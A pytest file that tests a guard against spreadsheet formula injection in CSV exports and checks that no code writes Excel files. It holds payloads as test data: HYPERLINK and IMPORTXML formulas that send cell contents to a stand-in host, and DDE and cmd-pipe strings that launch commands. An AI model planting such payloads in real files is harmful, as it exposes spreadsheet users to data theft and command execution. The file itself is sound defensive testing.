"""Exports that a person opens in a spreadsheet."""

import csv
import itertools
import re
from pathlib import Path

import numpy as np
import pandas as pd

from pipelines.privacy.spreadsheets import safe_for_spreadsheets, safe_text, write_csv
from tests.conftest import ROOT

FORMULAS = (
    "1+1", "HYPERLINK(\"http://host.example/?\"&A1,\"open\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "WEBSERVICE(\"http://host.example\")",
    "IMPORTXML(CONCAT(\"http://host.example/\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "-1", "@SUM(1)",
)  # fmt: skip
LEADS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62")
BLANKS = ("", " ", "\u00a0", "\t", "\r")
PAYLOADS = [blank + lead + text for blank, lead, text in itertools.product(BLANKS, LEADS, FORMULAS)]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def formulas_in(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.strip()[:1] in STARTS or cell[:1] in STARTS]


def test_no_payload_is_a_formula_in_an_export_and_each_comes_back_but_for_the_apostrophes(tmp_path: Path) -> None:
    """R-S1: 500 payloads, as values and as a column's name; read back by an independent reader they differ by apostrophes only."""
    assert len(set(PAYLOADS)) == 500
    for kind in ("str", "object", "category"):
        write_csv(tmp_path / "export.csv", pd.DataFrame({PAYLOADS[0]: pd.Series(PAYLOADS, dtype=kind)}))
        header, *rows = read_back(tmp_path / "export.csv")
        assert formulas_in([header, *rows]) == []
        assert [cell.replace("'", "") for (cell,) in rows] == [payload.replace("'", "") for payload in PAYLOADS]


def test_the_same_payloads_are_formulas_without_the_guard(tmp_path: Path) -> None:
    """R-S1, positive control: pandas alone writes them as they are, and lets a lone CR begin a row of its own."""
    pd.DataFrame({"a": PAYLOADS}).to_csv(tmp_path / "export.csv", index=False)
    assert len(formulas_in(read_back(tmp_path / "export.csv"))) >= 500


def test_a_cell_that_another_locale_would_cut_begins_no_formula() -> None:
    """R-S1: where the separator is a semicolon, `x;=A1` would be two cells."""
    assert safe_text("x;=A1") == "x;'=A1"
    assert safe_text("x\n =A1") == "x\n' =A1"


def test_numbers_missing_values_and_plain_texts_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {"change": [-1.5, np.nan], "n": [-3, 4], "code": ["low_back;thigh", None], "text": ["18-29", "a=b, 'c' @d"]}
    )
    pd.testing.assert_frame_equal(safe_for_spreadsheets(frame), frame)


def test_one_place_writes_csv_for_people_and_none_writes_spreadsheet_files() -> None:
    """R-S1: XLSX is not written anywhere, so that no cell of type formula or hyperlink can be."""
    texts = {
        path.name: path.read_text(encoding="utf-8")
        for top in ("pipelines", "assets")
        for path in (ROOT / top).rglob("*.py")
    }
    writers = ["staging.py", "spreadsheets.py"]  # the first writes into memory, for DuckDB to read
    assert "csv.writer(self._text" in texts["staging.py"]
    assert [name for name, text in texts.items() if ".to_csv(" in text or "csv.writer" in text] == writers
    assert [
        name for name, text in texts.items() if re.search(r"to_excel|ExcelWriter|xlsxwriter|Workbook\(", text)
    ] == []
